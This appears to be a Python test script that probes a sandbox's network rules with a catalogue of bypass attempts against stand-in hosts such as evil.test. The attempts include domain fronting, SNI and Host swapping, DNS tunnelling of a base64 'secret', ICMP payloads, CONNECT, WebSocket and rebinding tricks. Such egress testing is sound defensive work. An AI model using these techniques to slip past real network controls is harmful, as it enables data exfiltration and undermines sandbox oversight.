"""Ways around network rules, tried from inside a sandbox. Prints REACHED and what was heard, or why it was not."""
import http.client
import os
import socket
import ssl
import struct
import sys

ALLOWED, EVIL = '6.6.6.2', '6.6.6.3'
HOST = 'www.allowed.test'


def tls(address, port, sni, host, path='/', headers=''):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    s = socket.create_connection((address, port), 5)
    with context.wrap_socket(s, server_hostname=sni) as c:
        c.sendall(('GET %s HTTP/1.1\r\nHost: %s\r\n%sConnection: close\r\n\r\n' % (path, host, headers)).encode())
        said = b''
        while more := c.recv(4096):
            said += more
        return said.decode('latin1')


def reached(said, wanted='HTTP/1.1 200'):
    return 'REACHED ' + said.split('\r\n')[0] if said.startswith(wanted) else 'answered ' + said.split('\r\n')[0]


def raw_address():
    s = socket.create_connection((EVIL, 7), 5)
    s.settimeout(12)
    s.sendall(b'\x00secret')
    data = s.recv(100)
    return 'REACHED' if b'secret' in data else 'closed'


def other_sni():
    return reached(tls(EVIL, 443, 'evil.test', 'evil.test'))


def other_sni_at_allowed_address():
    return reached(tls(ALLOWED, 443, 'evil.test', 'evil.test'))


def no_sni():
    return reached(tls(EVIL, 443, None, 'evil.test'))


def plain_host():
    c = http.client.HTTPConnection(EVIL, 80, timeout=5)
    c.request('GET', '/', headers={'Host': 'evil.test'})
    r = c.getresponse()
    r.read()
    return 'REACHED' if r.status == 200 else 'answered %d' % r.status


def host_changes():
    c = http.client.HTTPConnection(ALLOWED, 80, timeout=5)
    c.request('GET', '/', headers={'Host': HOST})
    if c.getresponse().read() == b'':
        return 'no first answer'
    c.request('GET', '/', headers={'Host': 'evil.test'})
    r = c.getresponse()
    r.read()
    return 'REACHED' if r.status == 200 else 'answered %d' % r.status


def fronting():
    said = tls(ALLOWED, 443, HOST, 'evil.test')
    return 'REACHED' if '"host": "evil.test"' in said else reached(said)


def legitimate():
    return reached(tls(ALLOWED, 443, HOST, HOST))


def ask(server, name, kind, stream=False):
    question = struct.pack('>HHHHHH', 7, 0x100, 1, 0, 0, 0)
    for label in name.split('.'):
        question += bytes([len(label)]) + label.encode()
    question += b'\x00' + struct.pack('>HH', kind, 1)
    if stream:
        s = socket.create_connection((server, 53), 5)
        s.settimeout(5)
        s.sendall(struct.pack('>H', len(question)) + question)
        reply = s.recv(4096)[2:]
    else:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(3)
        s.sendto(question, (server, 53))
        reply = s.recv(4096)
    code, answers = reply[3] & 15, struct.unpack('>H', reply[6:8])[0]
    return 'REACHED %d answers' % answers if answers else 'code %d, no answers' % code


def gateway():
    for line in open('/etc/resolv.conf'):
        if line.startswith('nameserver'):
            return line.split()[1]


def dns_tunnel():
    return ask(gateway(), 'c2VjcmV0.evil.test', 16)


def dns_tunnel_by_addresses():
    return ask(gateway(), 'c2VjcmV0.evil.test', 1, True)


def dns_text_of_allowed_name():
    return ask(gateway(), HOST, 16)


def ech_keys():
    return ask(gateway(), HOST, 65)


def foreign_dns():
    return ask('8.8.8.8', 'evil.test', 1)


def foreign_dns_by_tcp():
    return ask('8.8.8.8', 'evil.test', 1, True)


def doh():
    return reached(tls('1.1.1.1', 443, 'cloudflare-dns.com', 'cloudflare-dns.com', '/dns-query'))


def dot():
    return reached(tls('1.1.1.1', 853, 'cloudflare-dns.com', 'cloudflare-dns.com'))


def datagram(size):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(3)
    s.sendto(b's' * size, (EVIL, 443))
    return 'REACHED' if len(s.recv(65536)) == size else 'cut short'


def quic():
    return datagram(1200)


def fragments():
    return datagram(4000)


def icmp():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    s.settimeout(3)
    s.sendto(b'\x08\x00\x00\x00\x00\x00\x00\x01secret', (EVIL, 0))
    s.recv(100)
    return 'REACHED'


def ipv6():
    s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
    s.settimeout(3)
    s.connect(('2001:db8:66::3', 443))
    return 'REACHED'


def connect():
    s = socket.create_connection((EVIL, 80), 5)
    s.settimeout(5)
    s.sendall(('CONNECT evil.test:443 HTTP/1.1\r\nHost: %s\r\n\r\n' % HOST).encode())
    said = s.recv(4096).decode('latin1')
    return 'REACHED' if ' 200 ' in said.split('\r\n')[0] else 'answered ' + said.split('\r\n')[0]


def websocket():
    said = tls(EVIL, 443, 'evil.test', 'evil.test', headers='Upgrade: websocket\r\n')
    return reached(said, 'HTTP/1.1 101')


def redirect():
    c = http.client.HTTPConnection(ALLOWED, 80, timeout=5)
    c.request('GET', '/redirect', headers={'Host': HOST})
    if c.getresponse().status != 302:
        return 'no redirect'
    return plain_host()


def rebinding():
    c = http.client.HTTPConnection(ALLOWED, 80, timeout=5)
    statuses = []
    for _ in range(2):
        c.request('GET', '/', headers={'Host': 'rebind.allowed.test'})
        r = c.getresponse()
        statuses.append((r.status, '10.1.2.3' in r.read().decode()))
    return 'REACHED' if any(private for _, private in statuses) else 'answered %s' % statuses[-1][0]


def neighbour():
    return reached(tls('127.0.0.1', int(os.environ['EDGE']), os.environ['NEIGHBOUR'], os.environ['NEIGHBOUR']), 'HTTP/1.1 2')


try:
    print(globals()[sys.argv[1]]())
except (OSError, http.client.HTTPException) as e:
    print('refused:', type(e).__name__, e)
